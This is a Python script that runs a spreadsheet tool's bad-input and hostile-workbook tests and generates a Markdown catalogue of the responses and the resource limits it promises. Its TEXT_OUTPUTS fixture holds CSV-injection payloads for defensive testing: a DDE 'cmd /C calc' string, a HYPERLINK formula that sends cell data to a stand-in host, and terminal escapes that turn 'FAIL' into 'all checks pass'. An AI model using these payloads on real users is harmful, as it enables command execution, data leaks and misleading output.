"""Generate docs/bad-inputs.md by running every case of the bad-input tables.

The tables are tests/bad_inputs.py (BAD_INPUTS, RANGE_BAD_INPUTS,
CLI_BAD_INPUTS, CLI_TEXT_OUTPUTS) and HOSTILE_FILES and AT_LIMITS in
tests/xlsx/test_hostile.py. Every response in
the document is what the code returned when the document was generated; the
tests named beside each row assert it, and tests/test_bad_input_catalogue.py
fails when the committed document differs from a fresh run (stale).

Usage (from the repository root)::

    python tests/bad_input_catalogue.py           # rewrite docs/bad-inputs.md
    python tests/bad_input_catalogue.py --check   # exit 1 if it is stale

>>> show_value(None), show_value(float("nan")), show_value(True)
('(empty)', 'NaN', 'TRUE')
"""

from __future__ import annotations

import contextlib
import functools
import hashlib
import io
import json
import math
import os
import subprocess
import sys
import tempfile
import time
import warnings
from collections.abc import Iterable, Sequence
from pathlib import Path
from typing import Any, NamedTuple

HERE = Path(__file__).resolve().parent
ROOT = HERE.parent
DOC = ROOT / "docs" / "bad-inputs.md"
if str(HERE) not in sys.path:  # run as a script: the tables live beside it
    sys.path.insert(0, str(HERE))
if str(HERE / "xlsx") not in sys.path:  # ... and the hostile files in tests/xlsx
    sys.path.append(str(HERE / "xlsx"))
if str(ROOT) not in sys.path:
    sys.path.insert(0, str(ROOT))

from bad_inputs import (  # noqa: E402
    BAD_INPUTS,
    CLI_BAD_INPUTS,
    CLI_TEXT_OUTPUTS,
    RANGE_BAD_INPUTS,
    BadInput,
    CliBadInput,
    CliTextOutput,
    RangeBadInput,
)

from udfs.sheet.error_values import SheetError  # noqa: E402

__all__ = [
    "CliResult",
    "Row",
    "build_book",
    "catalogue_rows",
    "cli_response",
    "hostile_response",
    "limit_run",
    "prepare_cli",
    "range_response",
    "render",
    "run_cli",
    "sheet_response",
    "show_value",
    "text_book",
    "text_output_run",
]

SHEET_TEST = "tests/sheet/test_bad_inputs.py::test_bad_input_gives_its_error"
RANGE_TEST = "tests/test_bad_input_catalogue.py::test_range_bad_input"
CLI_TEST = "tests/test_cli.py::test_cli_bad_input_table"
HOSTILE_TEST = "tests/xlsx/test_hostile.py::test_hostile_file_through_calc"
LIMIT_TEST = "tests/xlsx/test_hostile.py::test_within_the_limits_through_calc"
#: A workbook at the limits that has not finished after this long has missed the promise
#: (twice the promised time, and the time to start Python) and is stopped.
CHILD_TIMEOUT = 60.0
TEXT_TEST = "tests/app/test_tables.py::test_text_output_table"


class Row(NamedTuple):
    """One line of the catalogue."""

    section: str
    target: str  # function or command
    value: str  # the bad value, as shown
    why: str
    response: str
    test: str


# ---------------------------------------------------------------------- showing values


def show_value(x: Any) -> str:
    """A cell value as the catalogue shows it."""
    if x is None:
        return "(empty)"
    if isinstance(x, SheetError):
        return f"error value {str(x)!r}"
    if isinstance(x, bool):
        return "TRUE" if x else "FALSE"
    if isinstance(x, float):
        if math.isnan(x):
            return "NaN"
        if math.isinf(x):
            return "+inf" if x > 0 else "-inf"
        return f"{x:g}"
    if isinstance(x, list) and type(x) is not list:  # Huge: its own short repr
        return repr(x)
    if isinstance(x, list):
        return "[" + ", ".join(show_value(v) for v in x) + "]"
    return repr(x)


def _args_text(args: Sequence[Any], shown: str) -> str:
    return shown or "(" + ", ".join(show_value(a) for a in args) + ")"


# ---------------------------------------------------------------------- sheet functions


def sheet_response(row: BadInput) -> str:
    """What the function returns for the row (its error text, or a description)."""
    from udfs.sheet.registry import FUNCTIONS

    with warnings.catch_warnings():
        warnings.simplefilter("ignore", RuntimeWarning)  # numpy overflow on the fast path
        out = FUNCTIONS[row.function](*row.args)
    if isinstance(out, list):
        return f"a {len(out)}x{len(out[0])} spilled range (expected one error)"
    return str(out)


def range_response(row: RangeBadInput) -> tuple[str, Any]:
    """A description of the spilled result and the result itself."""
    from udfs.sheet.registry import FUNCTIONS

    with warnings.catch_warnings():
        warnings.simplefilter("ignore", RuntimeWarning)
        out = FUNCTIONS[row.function](*row.args)
    if not isinstance(out, list):
        return f"{out} (one value, expected a spilled range)", out
    i, j = row.cell
    width = len(out[0])
    record = width > 1 and all(x == out[i][0] for x in out[i])  # a record spills per row
    skip = {(i, c) for c in range(width)} if record else {(i, j)}
    others = sum(
        1
        for r, cells in enumerate(out)
        for c, x in enumerate(cells)
        if (r, c) not in skip and type(x) is float and math.isfinite(x)
    )
    where = f"row {i}" if record else f"[{i}][{j}]"
    total = len(out) * width - len(skip)
    return (
        f"{len(out)}x{width} result; {where} = {out[i][j]}; "
        f"{others:,} of the other {total:,} cells are numbers",
        out,
    )


# ---------------------------------------------------------------------- the command line


class CliResult(NamedTuple):
    code: int
    stdout: str
    stderr: str


def run_cli(argv: Sequence[str]) -> CliResult:
    """``cellwright ARGV`` in this process (the console script's code path)."""
    from udfs.cli import main

    out, err = io.StringIO(), io.StringIO()
    with (
        contextlib.redirect_stdout(out),
        contextlib.redirect_stderr(err),
        warnings.catch_warnings(),
    ):
        warnings.simplefilter("ignore", RuntimeWarning)
        try:
            code = main(list(argv))
        except SystemExit as exc:  # argparse usage errors
            code = int(exc.code or 0)
    return CliResult(code, out.getvalue(), err.getvalue())


def _lines(text: str) -> list[str]:
    """Lines of stderr without the progress bar's redraws."""
    lines = []
    for line in text.replace("\r", "\n").splitlines():
        if line.strip() and "ETA" not in line:
            lines.append(line.strip())
    return lines


def cli_response(result: CliResult) -> str:
    """The one-line reason (the last line of stderr, progress bar aside)."""
    lines = _lines(result.stderr)
    return lines[-1] if lines else "(nothing on stderr)"


def hostile_response(result: CliResult, fragment: str) -> str:
    """The stderr line that reports the problem (else the last line)."""
    lines = _lines(result.stderr)
    hits = [x for x in lines if fragment in x]
    return hits[0] if hits else (lines[-1] if lines else "(nothing on stderr)")


class HostileRun(NamedTuple):
    """One hostile workbook through ``cellwright calc`` in a child process."""

    result: CliResult
    seconds: float  # wall time of the command alone
    cpu_seconds: float  # its processor time (user and system): what a shared machine's
    # other work (the other test worker, an office program) does not stretch
    peak_rss_mib: float  # the child process's peak resident memory after this run
    input_unchanged: bool
    wrote_output: bool
    directory: str


def _peak_rss_mib() -> float:
    """This process's peak resident memory (VmHWM: its own, not the parent's it was forked
    from, which ru_maxrss would include), in MiB."""
    try:
        with open("/proc/self/status", encoding="ascii") as fh:
            for line in fh:
                if line.startswith("VmHWM:"):
                    return int(line.split()[1]) / 1024
    except OSError:
        pass
    import resource

    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024  # KiB on Linux


def _child_run_hostile() -> None:
    """Child mode: run the jobs given on stdin, report JSON on the real stdout."""
    import udfs.app.calc
    import udfs.engine.model

    jobs = json.loads(sys.stdin.read())
    report = []
    for argv in jobs:
        udfs.engine.model.clear_cache()  # no model of an earlier run held in memory
        t0, c0 = time.perf_counter(), time.process_time()
        r = run_cli(argv)
        seconds, cpu = time.perf_counter() - t0, time.process_time() - c0
        report.append([r.code, r.stdout, r.stderr, seconds, cpu, _peak_rss_mib()])
    print(json.dumps(report))


def _run_cases(cases: Sequence[Any], scratch: Path, one_child: bool) -> dict[str, HostileRun]:
    """Build each case's workbook in ``scratch`` and run ``cellwright calc`` on it in child
    processes: all in one (its peak memory after run k bounds run k) or one each."""
    jobs, digests = [], []
    for k, case in enumerate(cases):
        d = scratch / f"case{k}"
        d.mkdir()
        src = d / "hostile.xlsx"
        data = case.build()
        src.write_bytes(data)
        digests.append(hashlib.sha256(data).hexdigest())
        del data
        jobs.append(["calc", str(src), "-o", str(d / "out.xlsx"), *case.flags])
    env = dict(os.environ, PYTHONPATH=os.pathsep.join([str(ROOT), str(HERE)]))
    report: list[Any] = []
    for batch in [jobs] if one_child else [[job] for job in jobs]:
        try:
            child = subprocess.run(
                [sys.executable, __file__, "--run-hostile"],
                input=json.dumps(batch),
                capture_output=True,
                text=True,
                timeout=900 if one_child else CHILD_TIMEOUT,
                env=env,
                check=True,
            )
        except subprocess.TimeoutExpired:  # one case past any bound: stopped, reported
            stopped = f"(stopped after {CHILD_TIMEOUT:g} s)"
            report.append([-9, "", stopped, CHILD_TIMEOUT, CHILD_TIMEOUT, 0.0])
            continue
        report += json.loads(child.stdout.strip().splitlines()[-1])
    out: dict[str, HostileRun] = {}
    for k, (case, job, rep) in enumerate(zip(cases, jobs, report, strict=True)):
        src = Path(job[1])
        out[case.label] = HostileRun(
            CliResult(rep[0], rep[1], rep[2]),
            rep[3],
            rep[4],
            rep[5],
            hashlib.sha256(src.read_bytes()).hexdigest() == digests[k],
            (src.parent / "out.xlsx").exists(),
            str(src.parent),
        )
    return out


@functools.cache
def hostile_runs() -> dict[str, HostileRun]:
    """Every HOSTILE_FILES case through ``cellwright calc``, run once per process.

    The files are built here and run one after the other in ONE child process,
    so that its peak resident memory (C libraries included) bounds each run:
    the peak after run k is at least the peak during run k.
    """
    from test_hostile import HOSTILE_FILES

    with tempfile.TemporaryDirectory() as scratch:
        return _run_cases(HOSTILE_FILES, Path(scratch), one_child=True)


@functools.cache
def limit_run(label: str) -> HostileRun:
    """The AT_LIMITS case ``label`` through ``cellwright calc`` in a child process of its
    own (so its peak is its own), run once per process."""
    from test_hostile import AT_LIMITS

    (case,) = [a for a in AT_LIMITS if a.label == label]
    with tempfile.TemporaryDirectory() as scratch:
        return _run_cases([case], Path(scratch), one_child=False)[label]


def build_book(directory: Path) -> Path:
    """A small valid workbook: Inputs!B4 (``load``), B5, and formulas in Calc."""
    import openpyxl
    from openpyxl.workbook.defined_name import DefinedName

    wb = openpyxl.Workbook()
    ws = wb.active
    assert ws is not None
    ws.title = "Inputs"
    ws["B4"] = 40.0
    ws["B5"] = 3.0
    calc = wb.create_sheet("Calc")
    calc["A1"] = "=Inputs!B4*Inputs!B5"
    calc["A2"] = "=SUM(Inputs!B4:B5)"
    calc["A3"] = '=CW_MOLAR_MASS("H2O")*Inputs!B5'
    for name, ref in (("load", "Inputs!$B$4"), ("product", "Calc!$A$1"), ("total", "Calc!$A$2")):
        wb.defined_names[name] = DefinedName(name, attr_text=ref)
    path = directory / "in.xlsx"
    wb.save(path)
    return path


def prepare_cli(row: CliBadInput, directory: Path) -> list[str]:
    """Set up the scratch directory for ``row`` and return its argv."""
    book = build_book(directory)
    argv = [a.format(book=book, out=directory / "out", tmp=directory) for a in row.argv]
    if row.prepare == "dir":
        (directory / "dir.xlsx").mkdir()
    elif row.prepare == "text":
        (directory / "text.xlsx").write_text("plain text, not a workbook")
    elif row.prepare == "empty":
        (directory / "empty.xlsx").write_bytes(b"")
    elif row.prepare == "exists":
        target = next(a for a, raw in zip(argv, row.argv, strict=True) if "{out}" in raw)
        Path(target).write_bytes(b"old contents")
    elif row.prepare == "percent":
        percent_book(directory / "percent.xlsx")
    elif row.prepare:
        raise ValueError(f"unknown set-up step {row.prepare!r}")
    return argv


def percent_book(path: Path) -> Path:
    """A workbook with one formula of 8,000 percent signs (8,003 characters, under Excel's
    8,192): valid in Excel, read by neither of our runners."""
    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    assert ws is not None
    ws.title = "S"
    ws["A1"] = 1
    ws["B1"] = "=A1" + "%" * 8000
    wb.save(path)
    return path


#: The named formula cells of text_book and the text each computes (A1 = 1).
TEXT_OUTPUTS = {
    "link": (
        '="=HYPERLINK(""http://example.invalid/?x=""&"&A1&",""Click"")"',
        '=HYPERLINK("http://example.invalid/?x="&1,"Click")',
    ),
    "plus": ("=\"+1+cmd|' /C calc'!A\"&A1", "+1+cmd|' /C calc'!A1"),
    "at": ('="@SUM(1+1)"', "@SUM(1+1)"),
    "escape": (
        '=CHAR(1)&"FAIL"&CHAR(27)&"[2K"&CHAR(13)&"all checks pass"',
        "\x01FAIL\x1b[2K\rall checks pass",
    ),
    "number": ("=A1*2", 2.0),
}


def text_book(path: Path) -> Path:
    """A workbook whose named outputs are text meant to be run by a spreadsheet program
    (OWASP's examples of CSV injection) or to rewrite the terminal line it is printed on."""
    import openpyxl
    from openpyxl.workbook.defined_name import DefinedName

    wb = openpyxl.Workbook()
    ws = wb.active
    assert ws is not None
    ws.title = "S"
    ws["A1"] = 1
    for row, (name, (formula, _)) in enumerate(TEXT_OUTPUTS.items(), start=1):
        ws[f"B{row}"] = formula
        wb.defined_names[name] = DefinedName(name, attr_text=f"S!$B${row}")
    wb.save(path)
    return path


def text_output_run(row: CliTextOutput, directory: Path) -> tuple[CliResult, Path, str]:
    """Run ``row`` in ``directory``: the result, the output file and a description of what
    the output holds for the outputs of text_book (the catalogue's response)."""
    from udfs.app.safe_text import show

    book = text_book(directory / "text.xlsx")
    argv = [a.format(text_book=book, out=directory / "out") for a in row.argv]
    out = Path(next(a for a, raw in zip(argv, row.argv, strict=True) if "{out}" in raw))
    result = run_cli(argv)
    if result.code != 0:
        return result, out, f"exit {result.code}: " + cli_response(result)
    names = [n for n in TEXT_OUTPUTS if n != "number"]
    if out.suffix == ".csv":
        import csv

        with out.open(encoding="utf-8", newline="") as fh:
            first = next(iter(csv.DictReader(fh)))
        held = [f"{n} = {show(first[n], 60)}" for n in names]
        where = "the CSV holds"
    else:
        import openpyxl

        if row.command == "sweep":
            ws = openpyxl.load_workbook(out)["Sweep"]
            cells = dict(zip([c.value for c in ws[1]], ws[2], strict=True))
            held = [f"{n} = {_kind(cells[n].data_type)} {show(cells[n].value, 60)}" for n in names]
            where = "the xlsx holds"
        else:
            lines = [ln for ln in result.stdout.splitlines() if ln.strip().startswith("escape")]
            held = [show(lines[0].strip(), 80) if lines else "(no line for escape)"]
            where = "printed"
    return result, out, f"exit 0; {where}: " + "; ".join(held)


def _kind(data_type: str) -> str:
    return {"s": "text", "n": "number", "f": "FORMULA", "b": "boolean", "e": "error"}.get(
        data_type, data_type
    )


def _normalise(text: str, directory: Path) -> str:
    return text.replace(str(directory), "<tmp>")


def _argv_text(argv: Sequence[str]) -> str:
    """A command line for the document: every character printable (see safe_text.show)."""
    from udfs.app.safe_text import show

    return "`" + show(" ".join(argv), 300) + "`"


# ---------------------------------------------------------------------- the document


def _cli_id(row: CliBadInput) -> str:
    return f"{row.command}-{row.why}"


def catalogue_rows(scratch: Path | None = None) -> list[Row]:
    """Run every case and collect the catalogue's rows."""
    rows: list[Row] = []
    for b in BAD_INPUTS:
        rows.append(
            Row(
                "Spreadsheet functions, single cells",
                b.function,
                _args_text(b.args, b.shown),
                b.why,
                sheet_response(b),
                f"{SHEET_TEST}[{b.function}-{b.why}]",
            )
        )
    for r in RANGE_BAD_INPUTS:
        rows.append(
            Row(
                "Spreadsheet functions, ranges",
                r.function,
                _args_text(r.args, r.shown),
                r.why,
                range_response(r)[0],
                f"{RANGE_TEST}[{r.function}-{r.why}]",
            )
        )
    with contextlib.ExitStack() as stack:
        base = (
            scratch
            if scratch is not None
            else Path(stack.enter_context(tempfile.TemporaryDirectory()))
        )
        for k, c in enumerate(CLI_BAD_INPUTS):
            d = base / f"cli{k}"
            d.mkdir()
            result = run_cli(prepare_cli(c, d))
            rows.append(
                Row(
                    "Command line",
                    f"cellwright {c.command}",
                    _argv_text(c.argv),
                    c.why,
                    f"exit {result.code}: " + _normalise(cli_response(result), d),
                    f"{CLI_TEST}[{_cli_id(c)}]",
                )
            )
        for k, t in enumerate(CLI_TEXT_OUTPUTS):
            d = base / f"text{k}"
            d.mkdir()
            result, _, response = text_output_run(t, d)
            rows.append(
                Row(
                    "Workbook text in outputs",
                    f"cellwright {t.command}",
                    _argv_text(t.argv),
                    t.why,
                    _normalise(response, d),
                    f"{TEXT_TEST}[{t.why}]",
                )
            )
    from test_hostile import AT_LIMITS, HOSTILE_FILES

    runs = hostile_runs()
    for h in HOSTILE_FILES:
        run = runs[h.label]
        rows.append(
            Row(
                "Hostile workbooks (cellwright calc)",
                "cellwright calc" + "".join(f" {f}" for f in h.flags),
                h.label,
                "hostile file",
                f"exit {run.result.code}: "
                + _normalise(hostile_response(run.result, h.fragment), Path(run.directory)),
                f"{HOSTILE_TEST}[{h.label}]",
            )
        )
    for a in AT_LIMITS:  # what the test named in the row asserts (each run is its own test)
        rows.append(
            Row(
                "Workbooks at the limits (cellwright calc)",
                "cellwright calc" + "".join(f" {f}" for f in a.flags),
                a.label,
                "within the limits",
                "must finish: exit 0, output written, within the time and memory promised",
                f"{LIMIT_TEST}[{a.label}]",
            )
        )
    return rows


def _cell(text: str) -> str:
    return text.replace("|", "\\|").replace("\n", " ")


def render(rows: Iterable[Row]) -> str:
    """The Markdown document."""
    from test_hostile import HOSTILE_PEAK_RSS_MIB, HOSTILE_SECONDS

    from udfs.xlsx import guard

    rows = list(rows)
    sections: dict[str, list[Row]] = {}
    for r in rows:
        sections.setdefault(r.section, []).append(r)
    out = [
        "# Bad inputs and what cellwright says about them",
        "",
        "<!-- Generated by `python tests/bad_input_catalogue.py`; do not edit by hand.",
        "     tests/test_bad_input_catalogue.py fails when this file is stale. -->",
        "",
        "Every row was run when this file was generated: the response is what the code",
        "returned (spreadsheet error text, or the command's exit code and its one-line",
        "reason on stderr), and the test named in the last column asserts it. Paths of",
        "the scratch directory are shown as `<tmp>`. In command lines `{book}` is a small",
        "valid workbook (`build_book` in tests/bad_input_catalogue.py), `{out}` a fresh",
        "output path without its suffix and `{tmp}` the scratch directory.",
        "",
        f"{len(rows)} bad inputs in all: "
        + ", ".join(f"{len(v)} {k.lower()}" for k, v in sections.items())
        + ".",
        "",
        "Conventions (see udfs/sheet/coerce.py): numbers outside their range, NaN and",
        "infinity give `#NUM!`; text, booleans, empty required cells, unknown units and",
        "shapes that cannot broadcast give `#VALUE!`; unknown names give `#N/A` with",
        "suggestions; an error value arriving from another cell is passed on unchanged.",
        "In a range, a bad element gets its own error and the other elements are computed.",
        "",
        "## Bounds for hostile workbooks: the promise",
        "",
        "Any workbook within the limits below is read, evaluated and written by `cellwright",
        f"calc` within {HOSTILE_SECONDS:g} s, and the process stays under "
        f"{HOSTILE_PEAK_RSS_MIB} MiB",
        "of peak resident memory (interpreter, libraries and C allocations included; measured",
        "on a shared 2-core machine); past any limit the file is refused with a one-line",
        "reason before the work that grows with it starts. Both are asserted: the hostile",
        f"workbooks by `{HOSTILE_TEST}` (all in one child process),",
        f"workbooks at the limits by `{LIMIT_TEST}` (each in",
        "a child process of its own). These are safety bounds, not speed targets; time",
        "is measured as the command's processor time, which other work on a shared machine",
        "does not stretch (on an idle machine the one-threaded command takes that long).",
        "",
        "Run out of memory (a cap on the address space, as containers set), `calc` says",
        "`out of memory` on one line and stops with exit 1, leaving no file behind",
        "(`tests/xlsx/test_hostile.py::test_out_of_memory_is_one_line_and_the_end`, caps",
        "from 50 MiB up). The C XML parser (libexpat 2.5, through pyexpat) can loop instead",
        "of returning when one of its own allocations fails (seen with about 75 MiB left), so",
        "the reader stops with `out of memory` itself when less than 16 MiB of the cap is",
        "left before each chunk it gives the parser (udfs/xlsx/headroom.py).",
        "",
        "The limits (udfs/xlsx/guard.py): file "
        f"{guard.MAX_INPUT_BYTES // 2**20} MiB, {guard.MAX_PARTS:,} zip parts, "
        f"{guard.MAX_PART_BYTES // 2**20} MiB per part and {guard.MAX_TOTAL_BYTES // 2**20} MiB "
        f"in all unpacked, compression ratio {guard.MAX_RATIO:g}:1 for parts over 1 MiB; "
        f"{guard.MAX_CELLS:,} cells; {guard.MAX_FORMULA_CELLS:,} formula cells (every cell an "
        "array formula fills counts; `--max-formulas` raises the limit and, in proportion, "
        "the cells, rows, formula text and cell reads, and the promise with them); "
        f"{guard.MAX_FORMULA_TEXT:,} characters of distinct formulas; "
        f"{guard.MAX_CELL_READS:,} cells read by ranges; "
        f"{guard.MAX_ROWS:,} rows; {guard.MAX_SHARED_STRINGS:,} shared strings; "
        f"text cells of {guard.MAX_TEXT_LENGTH:,} characters, "
        f"{guard.MAX_DEFINED_NAMES:,} defined names, formulas of "
        f"{guard.MAX_FORMULA_LENGTH:,} characters and {guard.MAX_NESTING} nested calls "
        "(Excel's own limits); "
        f"{guard.MAX_RANGES:,} ranges of each kind listed by merged cells, hyperlinks, data "
        "validations and conditional formats, and merged or hyperlinked ranges covering "
        f"{guard.MAX_CELLS:,} cells of each kind; {guard.MAX_STYLES:,} entries in each list of "
        "the styles part. Every XML part is UTF-8 or UTF-16 with its byte-order mark (the Open "
        "Packaging Conventions), never declares a DTD or entities; external links and macros "
        "are reported, never followed or run; circular references are reported and not "
        "evaluated.",
        "",
        "A workbook the plan declines (a circular reference under iterative calculation, a "
        "formula it does not run) goes to the formulas package's own model, which reads the "
        "whole file with openpyxl and is about a hundred times slower; it takes a workbook "
        f"only up to {guard.MAX_FALLBACK_CELLS:,} cell positions from A1 to each sheet's last "
        "cell (merged and hyperlinked ranges included), "
        f"{guard.MAX_FALLBACK_FORMULAS:,} formula cells, {guard.MAX_FALLBACK_RANGES:,} merged, "
        "hyperlinked, validated and conditionally formatted ranges in all and "
        f"{guard.MAX_FALLBACK_XML_BYTES // 2**20} MiB of XML, and refuses a larger one "
        "before openpyxl reads it.",
        "",
        "## Text that leaves cellwright",
        "",
        "Workbook text is data (udfs/app/safe_text.py). In CSV tables (RFC 4180) a text field",
        "starting with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'` (the",
        "usual neutralising of CSV injection); numbers stay numbers. In .xlsx tables every text",
        "cell is stored as text, never as a formula, with characters XML cannot hold written",
        "`_xHHHH_` as Excel writes them. Column headers are names (1 to 255 characters, no",
        "control characters); defined names that are not valid names are ignored, with a note.",
        "On the terminal, control characters, Unicode format and bidirectional controls and",
        "undecodable bytes in workbook text are shown escaped (`\\x1b`), and messages are one",
        "line, bounded in length. Command-line text that is not UTF-8 is refused.",
        "",
    ]
    for title, items in sections.items():
        out += [f"## {title}", "", "| # | input | bad value | case | response | test |"]
        out.append("|---|---|---|---|---|---|")
        for k, r in enumerate(items, start=1):
            value = r.value if r.value.startswith("`") else f"`{r.value}`"
            out.append(
                f"| {k} | `{_cell(r.target)}` | {_cell(value)} | {_cell(r.why)} | "
                f"{_cell(r.response)} | `{_cell(r.test)}` |"
            )
        out.append("")
    return "\n".join(out)


def main(argv: Sequence[str] | None = None) -> int:
    """Write (or with ``--check`` compare) docs/bad-inputs.md."""
    args = list(sys.argv[1:] if argv is None else argv)
    if "--run-hostile" in args:
        _child_run_hostile()
        return 0
    text = render(catalogue_rows())
    if "--check" in args:
        if not DOC.exists() or DOC.read_text(encoding="utf-8") != text:
            print(f"{DOC} is stale; run: python tests/bad_input_catalogue.py", file=sys.stderr)
            return 1
        print(f"{DOC} is up to date")
        return 0
    DOC.write_text(text, encoding="utf-8")
    print(f"wrote {DOC} ({text.count(chr(10))} lines)")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
